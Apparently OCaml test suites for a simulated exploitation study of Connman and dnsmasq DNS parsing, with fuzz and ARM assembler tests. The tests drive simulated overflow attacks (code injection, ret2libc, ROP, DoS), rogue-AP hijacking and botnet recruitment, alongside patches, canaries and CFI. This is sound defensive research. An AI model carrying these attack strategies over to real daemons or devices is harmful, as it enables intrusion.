  let config = arm_config Defense.Profile.wx in
  match
    Scenario.pineapple_attack ~strategy:Exploit.Autogen.Dos ~config ()
  with
  | Error e -> Alcotest.fail e
  | Ok r -> (
      match r.Scenario.attack_disposition with
      | Some (Dnsproxy.Crashed _) ->
          check_bool "crashed state" true (Device.state r.Scenario.device = `Crashed)
      | other ->
          Alcotest.failf "expected crash, got %s"
            (match other with
            | Some d -> Format.asprintf "%a" Dnsproxy.pp_disposition d
            | None -> "nothing"))

let test_automatic_roaming_hijack () =
  (* The Pineapple powers on *after* the device settled at home; periodic
     rescans must carry it over with no scripted re-join. *)
  let w, home_ap = home_setup () in
  let device =
    Device.create w ~name:"cam"
      ~config:{ Dnsproxy.default_config with Dnsproxy.arch = Loader.Arch.Arm }
  in
  let rogue_lan = W.add_lan w ~name:"rogue" in
  let aps_in_air = ref [ home_ap ] in
  ignore (Device.join_wifi device [ home_ap ] ~ssid:"HomeWiFi");
  Device.start_roaming device
    ~scan:(fun () -> !aps_in_air)
    ~ssid:"HomeWiFi" ~interval_us:50_000 ~rounds:10;
  (* Attacker arrives at t = 120 ms. *)
  Netsim.Sim.schedule (W.sim w) ~delay:120_000 (fun _ ->
      aps_in_air :=
        Netsim.Wifi.ap ~name:"rogue-ap" ~ssid:"HomeWiFi" ~signal_dbm:(-25)
          rogue_lan
        :: !aps_in_air);
  ignore (W.run w);
  (match W.lan_of (Device.host device) with
  | Some lan -> check_string "roamed onto the rogue lan" "rogue" (W.lan_name lan)
  | None -> Alcotest.fail "device fell off the network");
  check_bool "roaming logged" true
    (List.exists
       (fun l -> String.length l >= 7 && String.sub l 0 7 = "roaming")
       (Device.events device))

let test_roaming_stays_home_without_rogue () =
  let w, home_ap = home_setup () in
  let device =
    Device.create w ~name:"cam"
      ~config:{ Dnsproxy.default_config with Dnsproxy.arch = Loader.Arch.Arm }
  in
  ignore (Device.join_wifi device [ home_ap ] ~ssid:"HomeWiFi");
  Device.start_roaming device
    ~scan:(fun () -> [ home_ap ])
    ~ssid:"HomeWiFi" ~interval_us:50_000 ~rounds:5;
  ignore (W.run w);
  match W.lan_of (Device.host device) with
  | Some lan -> check_string "still home" "home" (W.lan_name lan)
  | None -> Alcotest.fail "device fell off the network"

(* --- botnet recruitment --- *)

let test_botnet_mixed_fleet () =
  (* Three vulnerable builds and one patched; the attacker recruits
     exactly the vulnerable ones. *)
  let pick n = Option.get (Firmware.find n) in
  let firmwares =
    [
      pick "openelec-8";
      pick "nest-like-thermostat";
      pick "ubuntu-mate-rpi3";
      pick "tizen-4";
    ]
  in
  let r = Scenario.botnet_recruitment ~firmwares () in
  check_int "recruited" 3 r.Scenario.recruited;
  check_int "resisted" 1 r.Scenario.resisted;
  List.iter
    (fun (name, status) ->
      let expected_recruited =
        not (String.length name >= 7 && String.sub name 0 7 = "tizen-4")
      in
      check_bool name (status = `Recruited) expected_recruited)
    r.Scenario.fleet

let test_botnet_patched_fleet_immune () =
  let tizen4 = Option.get (Firmware.find "tizen-4") in
  let r =
    Scenario.botnet_recruitment ~firmwares:[ tizen4; tizen4; tizen4 ] ()
  in
  check_int "no bots" 0 r.Scenario.recruited;
  check_int "all resisted" 3 r.Scenario.resisted

(* --- stats --- *)

let test_stats_basics () =
  Alcotest.(check (float 1e-9)) "mean" 2.0 (Stats.mean [ 1.0; 2.0; 3.0 ]);
  Alcotest.(check (float 1e-9)) "mean empty" 0.0 (Stats.mean []);
  Alcotest.(check (float 1e-6))
    "stddev" 0.816497 (Stats.stddev [ 1.0; 2.0; 3.0 ]);
  Alcotest.(check (float 1e-9))
    "rate" 0.25
    (Stats.binomial_rate ~hits:16 ~trials:64)

let test_wilson_interval () =
  let lo, hi = Stats.wilson_interval ~hits:50 ~trials:100 () in
  check_bool "contains p-hat" true (lo < 0.5 && 0.5 < hi);
  check_bool "reasonable width" true (hi -. lo < 0.25);
  (* Boundary behaviour. *)
  let lo0, _ = Stats.wilson_interval ~hits:0 ~trials:20 () in
  Alcotest.(check (float 1e-9)) "lo at 0 hits" 0.0 lo0;
  let _, hi1 = Stats.wilson_interval ~hits:20 ~trials:20 () in
  check_bool "hi at all hits covers 1" true
    (Stats.interval_contains (0.0, hi1) 1.0)

let prop_wilson_contains_phat =
  QCheck.Test.make ~name:"wilson interval contains the point estimate" ~count:300
    QCheck.(make Gen.(pair (int_range 1 500) (int_bound 500)))
    (fun (trials, h) ->
      let hits = min h trials in
      let iv = Stats.wilson_interval ~hits ~trials () in
      Stats.interval_contains iv (Stats.binomial_rate ~hits ~trials))

(* --- packet loss and retries --- *)

let test_lossy_network_retry_succeeds () =
  let w, ap = home_setup () in
  let device =
    Device.create w ~name:"tv"
      ~config:{ Dnsproxy.default_config with Dnsproxy.arch = Loader.Arch.Arm }
  in
  ignore (Device.join_wifi device [ ap ] ~ssid:"HomeWiFi");
  ignore (W.run w);
  (* Impair the link only after DHCP has configured the device
     (broadcasts honour the loss rate too, so a lossy join could leave
     the device unconfigured).  Individual lookups may be lost; retry
     until a response lands. *)
  W.set_loss w 0.5;
  Device.lookup_with_retry device "ipv4.connman.net" ~retries:30
    ~timeout_us:10_000;
  ignore (W.run w);
  (match Device.last_disposition device with
  | Some (Dnsproxy.Cached _) -> ()
  | other ->
      Alcotest.failf "expected eventual Cached, got %s"
        (match other with
        | Some d -> Format.asprintf "%a" Dnsproxy.pp_disposition d
        | None -> "nothing"));
  (* A few more lookups so the loss rate provably bites: one exchange
     can slip through unscathed, a dozen packets at 50% cannot. *)
  for _ = 1 to 5 do
    Device.lookup_with_retry device "ipv4.connman.net" ~retries:30
      ~timeout_us:10_000;
    ignore (W.run w)
  done;
  check_bool "some packets were lost" true ((W.stats w).W.dropped > 0)

let test_total_loss_never_delivers () =
  let w, ap = home_setup () in
  let device =
    Device.create w ~name:"tv"
      ~config:{ Dnsproxy.default_config with Dnsproxy.arch = Loader.Arch.Arm }
  in
  ignore (Device.join_wifi device [ ap ] ~ssid:"HomeWiFi");
  ignore (W.run w);
  let before = List.length (Device.dispositions device) in
  W.set_loss w 1.0;
  Device.lookup_with_retry device "ipv4.connman.net" ~retries:5 ~timeout_us:5_000;
  ignore (W.run w);
  check_int "no new responses" before (List.length (Device.dispositions device))

(* --- experiment runner --- *)

let test_experiment_rows_all_pass () =
  let rows = Experiments.all ~seed:2 () in
  check_bool "has all sections" true (List.length rows >= 40);
  List.iter
    (fun r ->
      check_bool
        (Printf.sprintf "%s: expected %s, observed %s" r.Experiments.id
           r.Experiments.expected r.Experiments.observed)
        true r.Experiments.ok)
    rows

let test_experiment_table_renders () =
  let rows = Experiments.e1_to_e6_matrix ~seed:3 () in
  let table = Format.asprintf "%a" Experiments.pp_table rows in
  check_bool "mentions E5" true
    (let contains hay needle =
       let n = String.length needle and h = String.length hay in
       let rec go i = i + n <= h && (String.sub hay i n = needle || go (i + 1)) in
       go 0
     in
     contains table "E5" && contains table "PASS");
  let md = Format.asprintf "%a" Experiments.pp_markdown rows in
  check_bool "markdown rows" true (String.length md > 100)

let () =
  Alcotest.run "core"
    [
      ("firmware", [ Alcotest.test_case "catalogue" `Quick test_firmware_catalog ]);
      ( "device",
        [
          Alcotest.test_case "joins wifi, runs connectivity check" `Quick
            test_device_joins_and_checks_connectivity;
          Alcotest.test_case "lookup without dns" `Quick
            test_device_lookup_without_dns_is_noop;
        ] );
      ( "pineapple scenario",
        [
          Alcotest.test_case "full §III-D chain" `Quick test_pineapple_full_chain;
          Alcotest.test_case "patched firmware survives" `Quick
            test_pineapple_patched_firmware_survives;
          Alcotest.test_case "CFI blocks the remote exploit" `Quick
            test_pineapple_cfi_blocks;
          Alcotest.test_case "DoS strategy crashes remotely" `Quick
            test_pineapple_dos_strategy;
        ] );
      ( "roaming",
        [
          Alcotest.test_case "auto-roams onto stronger rogue AP" `Quick
            test_automatic_roaming_hijack;
          Alcotest.test_case "stays home without rogue" `Quick
            test_roaming_stays_home_without_rogue;
        ] );
      ( "botnet",
        [
          Alcotest.test_case "mixed fleet recruitment" `Quick
            test_botnet_mixed_fleet;
          Alcotest.test_case "patched fleet immune" `Quick
            test_botnet_patched_fleet_immune;
        ] );
      ( "stats",
        [
          Alcotest.test_case "basics" `Quick test_stats_basics;
          Alcotest.test_case "wilson interval" `Quick test_wilson_interval;
          QCheck_alcotest.to_alcotest prop_wilson_contains_phat;
        ] );
      ( "lossy network",
        [
          Alcotest.test_case "retry beats 50% loss" `Quick
            test_lossy_network_retry_succeeds;
          Alcotest.test_case "total loss never delivers" `Quick
            test_total_loss_never_delivers;
        ] );
      ( "experiments",
        [
          Alcotest.test_case "all rows reproduce" `Slow test_experiment_rows_all_pass;
          Alcotest.test_case "tables render" `Quick test_experiment_table_renders;
        ] );
    ]
