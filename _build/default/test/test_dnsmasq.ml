(* §V adaptation tests: the Connman exploit tooling retargeted to the
   dnsmasq-sim daemon by swapping frame geometry — "minimal modification".
   Every §III strategy must carry over, and the 2.78-style bound must
   stop them all. *)

module O = Machine.Outcome
module D = Dnsmasq.Daemon
open Exploit

let check_bool = Alcotest.(check bool)
let check_int = Alcotest.(check int)
let lookup = Dns.Name.of_string "upstream.example"

let daemon ?(patched = false) ~arch ~profile ?(seed = 17) () =
  D.create { D.patched; arch; profile; boot_seed = seed }

(* The §V "minimal modification": same toolkit, dnsmasq frame. *)
let dnsmasq_target proc =
  Target.make
    ~frame:(Dnsmasq.Frame.geometry proc.Loader.Process.arch)
    ~buffer_addr:(Dnsmasq.Frame.buffer_addr proc)
    proc

let fire d strategy =
  let analysis_proc =
    (* a separate boot of the same build *)
    D.process (daemon ~arch:(D.process d).Loader.Process.arch
                 ~profile:(D.process d).Loader.Process.profile ~seed:4242 ())
  in
  match Autogen.generate ~analysis:(dnsmasq_target analysis_proc) ~strategy () with
  | Error e -> Alcotest.fail ("generation failed: " ^ e)
  | Ok (_, raw_name) ->
      let query = D.make_query d lookup in
      D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ())

let expect_shell name d strategy =
  match fire d strategy with
  | D.Compromised reason -> check_bool (name ^ ": shell") true (O.is_shell reason)
  | other -> Alcotest.failf "%s: expected shell, got %a" name D.pp_disposition other

(* --- benign flow --- *)

let test_benign_parse () =
  List.iter
    (fun arch ->
      let d = daemon ~arch ~profile:Defense.Profile.wx () in
      let query = D.make_query d lookup in
      let wire =
        Dns.Packet.encode
          (Dns.Packet.response ~query
             [ Dns.Packet.a_record lookup ~ttl:60 ~ipv4:0x0A0B0C0D ])
      in
      match D.handle_response d wire with
      | D.Cached 1 -> check_bool "alive" true (D.alive d)
      | other ->
          Alcotest.failf "%s: expected Cached, got %a" (Loader.Arch.name arch)
            D.pp_disposition other)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

let test_benign_parse_fills_cache () =
  let d = daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.wx () in
  let query = D.make_query d lookup in
  let wire =
    Dns.Packet.encode
      (Dns.Packet.response ~query
         [ Dns.Packet.a_record lookup ~ttl:60 ~ipv4:0x0A0B0C0D ])
  in
  (match D.handle_response d wire with
  | D.Cached 1 -> ()
  | other -> Alcotest.failf "expected Cached, got %a" D.pp_disposition other);
  Alcotest.(check (option int))
    "answer cached" (Some 0x0A0B0C0D) (D.cache_lookup d lookup);
  D.tick d 61;
  Alcotest.(check (option int))
    "entry expires with the daemon clock" None (D.cache_lookup d lookup);
  let s = D.cache_stats d in
  check_int "one insertion" 1 s.Dns.Cache.insertions;
  check_bool "hit and miss both recorded" true
    (s.Dns.Cache.hits >= 1 && s.Dns.Cache.misses >= 1)

let test_nxdomain_negatively_cached () =
  let d = daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.wx () in
  let absent = Dns.Name.of_string "void.example" in
  let q = D.make_query d absent in
  let wire =
    Dns.Packet.encode
      {
        Dns.Packet.header =
          {
            q.Dns.Packet.header with
            Dns.Packet.qr = true;
            Dns.Packet.ra = true;
            Dns.Packet.rcode = Dns.Packet.NXDomain;
          };
        questions = q.Dns.Packet.questions;
        answers = [];
        authorities = [];
        additionals = [];
      }
  in
  (match D.handle_response d wire with
  | D.Dropped _ -> check_bool "alive" true (D.alive d)
  | other -> Alcotest.failf "expected Dropped, got %a" D.pp_disposition other);
  check_bool "negative entry" true
    (Dns.Cache.find (D.cache d) ~now:0 (Dns.Name.to_string absent)
    = Dns.Cache.Negative_hit);
  D.tick d (D.negative_ttl + 1);
  check_bool "negative entry expires" true
    (Dns.Cache.find (D.cache d) ~now:(D.negative_ttl + 1)
       (Dns.Name.to_string absent)
    = Dns.Cache.Miss)

let test_dos_crashes_277 () =
  List.iter
    (fun arch ->
      let d = daemon ~arch ~profile:Defense.Profile.wx () in
      let query = D.make_query d lookup in
      let wire =
        Dns.Craft.hostile_response ~query
          ~raw_name:(Dns.Craft.dos_name ~size:16384)
          ()
      in
      match D.handle_response d wire with
      | D.Crashed _ -> check_bool "dead" false (D.alive d)
      | other ->
          Alcotest.failf "%s: expected crash, got %a" (Loader.Arch.name arch)
            D.pp_disposition other)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

let test_dos_survived_by_278 () =
  List.iter
    (fun arch ->
      let d = daemon ~patched:true ~arch ~profile:Defense.Profile.wx () in
      let query = D.make_query d lookup in
      let wire =
        Dns.Craft.hostile_response ~query
          ~raw_name:(Dns.Craft.dos_name ~size:16384)
          ()
      in
      match D.handle_response d wire with
      | D.Cached _ -> check_bool "alive" true (D.alive d)
      | other ->
          Alcotest.failf "%s: expected survival, got %a" (Loader.Arch.name arch)
            D.pp_disposition other)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

(* --- frame geometry transfer --- *)

let test_buffer_is_2048 () =
  List.iter
    (fun arch ->
      let fr = Dnsmasq.Frame.geometry arch in
      check_int (Loader.Arch.name arch ^ ": buffer size") 2048
        fr.Machine.Stack_frame.buffer_size;
      check_bool "bigger frame than connman" true
        (fr.Machine.Stack_frame.off_ret
        > (Connman.Frame.geometry arch).Machine.Stack_frame.off_ret))
    [ Loader.Arch.X86; Loader.Arch.Arm ]

let test_overflow_reaches_ret () =
  List.iter
    (fun arch ->
      let d = daemon ~arch ~profile:Defense.Profile.wx () in
      let fr = Dnsmasq.Frame.geometry arch in
      let planted = 0x0D0A0D0C in
      let spec =
        Dns.Craft.spec_concat
          [
            Dns.Craft.spec_any fr.Machine.Stack_frame.off_ret;
            Dns.Craft.spec_fixed
              (String.init 4 (fun i -> Char.chr ((planted lsr (8 * i)) land 0xFF)));
          ]
      in
      let raw_name = Result.get_ok (Dns.Craft.plan_labels spec) in
      let query = D.make_query d lookup in
      match D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ()) with
      | D.Crashed (O.Fault f) ->
          check_int
            (Loader.Arch.name arch ^ ": planted pc reached")
            planted f.Memsim.Memory.addr
      | other ->
          Alcotest.failf "%s: expected planted fault, got %a"
            (Loader.Arch.name arch) D.pp_disposition other)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

(* --- the full §III strategy matrix, retargeted --- *)

let test_adapted_code_injection () =
  expect_shell "x86 inject"
    (daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.none ())
    Autogen.Code_injection;
  expect_shell "arm inject"
    (daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.none ())
    Autogen.Code_injection

let test_adapted_ret2libc () =
  expect_shell "x86 ret2libc"
    (daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.wx ())
    Autogen.Ret2libc

let test_adapted_rop_wx_arm () =
  expect_shell "arm rop-wx"
    (daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx ())
    Autogen.Rop_wx

let test_adapted_rop_aslr () =
  expect_shell "x86 rop-aslr"
    (daemon ~arch:Loader.Arch.X86 ~profile:Defense.Profile.wx_aslr ())
    Autogen.Rop_aslr;
  expect_shell "arm rop-aslr"
    (daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.wx_aslr ())
    Autogen.Rop_aslr

let test_patched_resists_adapted_exploits () =
  List.iter
    (fun (arch, profile, strategy) ->
      let d = daemon ~patched:true ~arch ~profile () in
      match fire d strategy with
      | D.Compromised _ -> Alcotest.fail "2.78 compromised!"
      | D.Crashed r -> Alcotest.failf "2.78 crashed: %s" (O.to_string r)
      | D.Cached _ | D.Dropped _ | D.Blocked _ -> ())
    [
      (Loader.Arch.X86, Defense.Profile.wx, Autogen.Ret2libc);
      (Loader.Arch.Arm, Defense.Profile.wx, Autogen.Rop_wx);
      (Loader.Arch.Arm, Defense.Profile.wx_aslr, Autogen.Rop_aslr);
    ]

let test_connman_payload_does_not_transfer_as_is () =
  (* The point of §V's "minimal modification": a payload built for
     Connman's 1024-byte frame does *not* pop a shell on dnsmasq-sim —
     the geometry swap is necessary. *)
  let arch = Loader.Arch.Arm in
  let connman_analysis =
    Connman.Dnsproxy.process
      (Connman.Dnsproxy.create
         {
           Connman.Dnsproxy.version = Connman.Version.v1_34;
           arch;
           profile = Defense.Profile.wx;
           boot_seed = 3;
           diversity_seed = None;
         })
  in
  match
    Autogen.generate ~analysis:(Target.connman connman_analysis)
      ~strategy:Autogen.Rop_wx ()
  with
  | Error e -> Alcotest.fail e
  | Ok (_, raw_name) -> (
      let d = daemon ~arch ~profile:Defense.Profile.wx () in
      let query = D.make_query d lookup in
      match D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ()) with
      | D.Compromised _ ->
          Alcotest.fail "unadapted payload should not transfer verbatim"
      | D.Cached _ | D.Crashed _ | D.Dropped _ | D.Blocked _ -> ())

let test_canary_still_blocks () =
  let d =
    daemon ~arch:Loader.Arch.Arm ~profile:Defense.Profile.(with_canary wx) ()
  in
  match fire d Autogen.Rop_wx with
  | D.Blocked (O.Aborted _) -> ()
  | other -> Alcotest.failf "expected canary abort, got %a" D.pp_disposition other

let () =
  Alcotest.run "dnsmasq"
    [
      ( "daemon",
        [
          Alcotest.test_case "benign parse" `Quick test_benign_parse;
          Alcotest.test_case "benign parse fills cache" `Quick
            test_benign_parse_fills_cache;
          Alcotest.test_case "nxdomain negatively cached" `Quick
            test_nxdomain_negatively_cached;
          Alcotest.test_case "2.77 DoS" `Quick test_dos_crashes_277;
          Alcotest.test_case "2.78 survives" `Quick test_dos_survived_by_278;
        ] );
      ( "frame transfer",
        [
          Alcotest.test_case "2048-byte geometry" `Quick test_buffer_is_2048;
          Alcotest.test_case "overflow reaches ret" `Quick test_overflow_reaches_ret;
          Alcotest.test_case "connman payload needs adapting" `Quick
            test_connman_payload_does_not_transfer_as_is;
        ] );
      ( "adapted §III matrix",
        [
          Alcotest.test_case "code injection" `Quick test_adapted_code_injection;
          Alcotest.test_case "ret2libc" `Quick test_adapted_ret2libc;
          Alcotest.test_case "rop-wx (arm)" `Quick test_adapted_rop_wx_arm;
          Alcotest.test_case "rop-aslr" `Quick test_adapted_rop_aslr;
          Alcotest.test_case "2.78 resists all" `Quick
            test_patched_resists_adapted_exploits;
          Alcotest.test_case "canary blocks" `Quick test_canary_still_blocks;
        ] );
    ]
