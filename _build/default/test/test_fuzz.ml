(* Fuzz-style robustness tests: whatever bytes arrive, the host-side code
   must stay total (return values, never exceptions), and the daemon must
   classify every machine outcome.  The simulated overflow is allowed to
   crash the *guest*; nothing may crash the *host*. *)

module O = Machine.Outcome
module Dnsproxy = Connman.Dnsproxy

let lookup = Dns.Name.of_string "ipv4.connman.net"

let gen_bytes max_len =
  QCheck.Gen.(string_size ~gen:char (int_range 0 max_len))

(* --- codecs are total --- *)

let prop_packet_decode_total =
  QCheck.Test.make ~name:"Packet.decode never raises" ~count:1000
    (QCheck.make (gen_bytes 512))
    (fun bytes ->
      match Dns.Packet.decode bytes with Ok _ | Error _ -> true)

let prop_name_decode_total =
  QCheck.Test.make ~name:"Name.decode never raises" ~count:1000
    (QCheck.make (gen_bytes 256))
    (fun bytes ->
      match Dns.Name.decode bytes 0 with Ok _ | Error _ -> true)

let prop_vulnerable_expand_total =
  QCheck.Test.make ~name:"expand_like_connman never raises" ~count:1000
    (QCheck.make (gen_bytes 256))
    (fun bytes ->
      match Dns.Name.expand_like_connman bytes 0 with Ok _ | Error _ -> true)

let prop_decoders_total_on_random_words =
  QCheck.Test.make ~name:"instruction decoders never raise unexpectedly"
    ~count:2000
    QCheck.(make Gen.(pair (int_bound 0xFFFFFFF) (int_bound 0xF)))
    (fun (w, hi) ->
      let word = w lor (hi lsl 28) in
      (match Isa_arm.Decode.decode_word ~addr:0 word with
      | _ -> true
      | exception Isa_arm.Decode.Error _ -> true)
      &&
      let bytes =
        String.init 8 (fun i -> Char.chr ((word lsr (8 * (i land 3))) land 0xFF))
      in
      match Isa_x86.Decode.decode_with (fun i -> Char.code bytes.[i land 7]) 0 with
      | _ -> true
      | exception Isa_x86.Decode.Error _ -> true)

(* --- the daemon survives arbitrary garbage (host-side) --- *)

let classify_ok d disposition =
  match disposition with
  | Dnsproxy.Cached _ | Dnsproxy.Dropped _ -> Dnsproxy.alive d
  | Dnsproxy.Crashed _ | Dnsproxy.Compromised _ | Dnsproxy.Blocked _ ->
      not (Dnsproxy.alive d)

let prop_daemon_total_on_garbage =
  QCheck.Test.make ~name:"daemon handles arbitrary datagrams" ~count:200
    (QCheck.make (gen_bytes 300))
    (fun bytes ->
      let d = Dnsproxy.create Dnsproxy.default_config in
      ignore (Dnsproxy.make_query d lookup);
      classify_ok d (Dnsproxy.handle_response d bytes))

(* Garbage that passes pre-validation: correct header/id/question, random
   answer-section bytes — this drives the vulnerable machine code with
   arbitrary input. *)
let prop_daemon_total_on_hostile_answers =
  QCheck.Test.make ~name:"daemon classifies arbitrary answer sections" ~count:150
    (QCheck.make (gen_bytes 600))
    (fun garbage ->
      let d = Dnsproxy.create Dnsproxy.default_config in
      let query = Dnsproxy.make_query d lookup in
      let wire =
        (* Hand-build: header + question echo + raw garbage as the answer
           section. *)
        let buf = Buffer.create 128 in
        let u16 v =
          Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
          Buffer.add_char buf (Char.chr (v land 0xFF))
        in
        u16 query.Dns.Packet.header.Dns.Packet.id;
        u16 0x8180;
        u16 1;
        u16 1;
        u16 0;
        u16 0;
        Buffer.add_string buf (Dns.Name.encode lookup);
        u16 1;
        u16 1;
        Buffer.add_string buf garbage;
        Buffer.contents buf
      in
      classify_ok d (Dnsproxy.handle_response d wire))

let prop_daemon_random_label_streams =
  (* Arbitrary label streams (valid-shaped but arbitrary contents): the
     machine may crash, hang, or parse; the host must classify. *)
  QCheck.Test.make ~name:"daemon classifies random label streams" ~count:150
    QCheck.(make Gen.(list_size (int_range 0 80) (pair (int_range 1 63) (int_bound 255))))
    (fun labels ->
      let d = Dnsproxy.create Dnsproxy.default_config in
      let query = Dnsproxy.make_query d lookup in
      let raw_name =
        let buf = Buffer.create 256 in
        List.iter
          (fun (len, fill) ->
            Buffer.add_char buf (Char.chr len);
            Buffer.add_string buf (String.make len (Char.chr fill)))
          labels;
        Buffer.add_char buf '\x00';
        Buffer.contents buf
      in
      let wire = Dns.Craft.hostile_response ~query ~raw_name () in
      classify_ok d (Dnsproxy.handle_response d wire))

(* Truncated real responses at every length: a classic parser gauntlet. *)
let test_truncation_gauntlet () =
  let d0 = Dnsproxy.create Dnsproxy.default_config in
  let query = Dnsproxy.make_query d0 lookup in
  let wire =
    Dns.Packet.encode
      (Dns.Packet.response ~query
         [ Dns.Packet.a_record lookup ~ttl:60 ~ipv4:0x01020304 ])
  in
  for len = 0 to String.length wire - 1 do
    let d = Dnsproxy.create Dnsproxy.default_config in
    ignore (Dnsproxy.make_query d lookup);
    let truncated = String.sub wire 0 len in
    match Dnsproxy.handle_response d truncated with
    | Dnsproxy.Cached _ | Dnsproxy.Dropped _ | Dnsproxy.Crashed _
    | Dnsproxy.Compromised _ | Dnsproxy.Blocked _ ->
        ()
  done

let () =
  let qt = QCheck_alcotest.to_alcotest in
  Alcotest.run "fuzz"
    [
      ( "codecs",
        [
          qt prop_packet_decode_total;
          qt prop_name_decode_total;
          qt prop_vulnerable_expand_total;
          qt prop_decoders_total_on_random_words;
        ] );
      ( "daemon",
        [
          qt prop_daemon_total_on_garbage;
          qt prop_daemon_total_on_hostile_answers;
          qt prop_daemon_random_label_streams;
          Alcotest.test_case "truncation gauntlet" `Quick test_truncation_gauntlet;
        ] );
    ]
