(* Tests for the ARMv7 assembler, decoder, and interpreter. *)

module Mem = Memsim.Memory
module Word = Memsim.Word
open Isa_arm
module O = Machine.Outcome

let check_int = Alcotest.(check int)
let check_bool = Alcotest.(check bool)
let no_kernel _n _cpu = O.Stop (O.Aborted "unexpected syscall")

let text_base = 0x0001_0000

let setup ?(cfi = false) ?extern program =
  let mem = Mem.create () in
  let result = Asm.assemble ?extern ~base:text_base program in
  let size = max 0x1000 (String.length result.Asm.code) in
  Mem.map mem ~base:text_base ~size ~perm:Mem.rx ~name:"text";
  Mem.poke_bytes mem text_base result.Asm.code;
  Mem.map mem ~base:0x7EFF_0000 ~size:0x10000 ~perm:Mem.rw ~name:"stack";
  let cpu = Cpu.create ~cfi mem in
  Cpu.set cpu Insn.SP 0x7EFF_F000;
  Cpu.set_pc cpu text_base;
  (mem, cpu, result)

let run ?fuel ?(kernel = no_kernel) ?(traps = []) cpu =
  Cpu.run ?fuel ~traps ~kernel cpu

(* A halt convention for tests: svc 0xFF stops with Halted. *)
let halt_kernel n _cpu = if n = 0xFF then O.Stop O.Halted else O.Resume
let halt = Asm.I (Insn.al (Insn.Svc 0xFF))
let run_to_halt cpu = run ~kernel:halt_kernel cpu

(* --- encodings: ground truth from the ARM ARM / gnu as --- *)

let test_known_words () =
  let open Insn in
  let check name insn expected =
    Alcotest.(check string)
      name
      (Printf.sprintf "%08x" expected)
      (Printf.sprintf "%08x" (Encode.encode_word insn))
  in
  check "nop (mov r1, r1)" nop 0xE1A01001;
  check "mov r0, #1" (al (Mov (R0, Imm 1))) 0xE3A00001;
  check "mov r7, #11" (al (Mov (R7, Imm 11))) 0xE3A0700B;
  check "mvn r0, #0" (al (Mvn (R0, Imm 0))) 0xE3E00000;
  check "add r0, r1, #4" (al (Add (R0, R1, Imm 4))) 0xE2810004;
  check "sub sp, sp, #8" (al (Sub (SP, SP, Imm 8))) 0xE24DD008;
  check "rsb r0, r1, #0" (al (Rsb (R0, R1, Imm 0))) 0xE2610000;
  check "cmp r0, #0" (al (Cmp (R0, Imm 0))) 0xE3500000;
  check "cmp r3, r4" (al (Cmp (R3, Reg R4))) 0xE1530004;
  check "ldr r0, [r1, #4]" (al (Ldr (R0, R1, 4))) 0xE5910004;
  check "ldr r0, [r1, #-4]" (al (Ldr (R0, R1, -4))) 0xE5110004;
  check "str r2, [sp]" (al (Str (R2, SP, 0))) 0xE58D2000;
  check "ldrb r2, [r3]" (al (Ldrb (R2, R3, 0))) 0xE5D32000;
  check "strb r2, [r3, #1]" (al (Strb (R2, R3, 1))) 0xE5C32001;
  check "push {r4, lr}" (al (Push [ R4; LR ])) 0xE92D4010;
  check "pop {r4, pc}" (al (Pop [ R4; PC ])) 0xE8BD8010;
  check "paper gadget pop {r0,r1,r2,r3,r5,r6,r7,pc}"
    (al (Pop [ R0; R1; R2; R3; R5; R6; R7; PC ]))
    0xE8BD80EF;
  check "bx lr" (al (Bx LR)) 0xE12FFF1E;
  check "blx r3" (al (Blx_r R3)) 0xE12FFF33;
  check "svc 0" (al (Svc 0)) 0xEF000000;
  check "b +8" (al (B 8)) 0xEA000002;
  check "bl .-4" (al (Bl (-4))) 0xEBFFFFFF;
  check "mov r3, r3, lsl #8" (al (Mov (R3, Lsl (R3, 8)))) 0xE1A03403;
  check "mul r0, r1, r2" (al (Mul (R0, R1, R2))) 0xE0000291;
  check "bic r0, r1, #0xFF" (al (Bic (R0, R1, Imm 0xFF))) 0xE3C100FF;
  check "ldr r0, [r1, r2]" (al (Ldr_r (R0, R1, R2))) 0xE7910002;
  check "strb r3, [r4, r5]" (al (Strb_r (R3, R4, R5))) 0xE7C43005;
  check "beq +0" { cond = EQ; op = B 0 } 0x0A000000;
  check "movne r0, #1" { cond = NE; op = Mov (R0, Imm 1) } 0x13A00001

let test_imm_encoding () =
  check_bool "1 encodable" true (Encode.imm_encodable 1);
  check_bool "0xFF encodable" true (Encode.imm_encodable 0xFF);
  check_bool "0x100 encodable" true (Encode.imm_encodable 0x100);
  check_bool "0x102 not encodable" false (Encode.imm_encodable 0x102);
  check_bool "0xFF000000 encodable" true (Encode.imm_encodable 0xFF000000);
  check_bool "0x3FC encodable" true (Encode.imm_encodable 0x3FC);
  check_bool "0x1024 not encodable" false (Encode.imm_encodable 0x1024);
  (* 1024 = 0x400 is encodable (0x40 ror 28·?) — 0x400 = 1 lsl 10. *)
  check_bool "0x400 encodable" true (Encode.imm_encodable 0x400)

let roundtrip insn =
  let w = Encode.encode_word insn in
  let got = Decode.decode_word ~addr:0 w in
  Alcotest.(check string)
    ("round-trip " ^ Insn.to_string insn)
    (Insn.to_string insn) (Insn.to_string got)

let test_roundtrip_corpus () =
  let open Insn in
  List.iter roundtrip
    [
      nop;
      al (Mov (R0, Imm 0));
      al (Mov (PC, Reg LR));
      al (Mov (R3, Lsl (R3, 8)));
      al (Add (R0, R1, Lsl (R2, 2)));
      al (Mvn (R3, Reg R3));
      al (Add (SP, SP, Imm 0x10));
      al (Sub (R1, R2, Reg R3));
      al (Rsb (R0, R0, Imm 0));
      al (And (R0, R0, Imm 0xFF));
      al (Orr (R4, R4, Reg R5));
      al (Eor (R6, R6, Reg R6));
      al (Cmp (R0, Imm 63));
      al (Tst (R1, Reg R1));
      al (Ldr (R0, SP, 0x40));
      al (Ldr (LR, R11, -4));
      al (Str (R0, SP, -8));
      al (Ldrb (R3, R2, 1));
      al (Strb (R3, R2, -1));
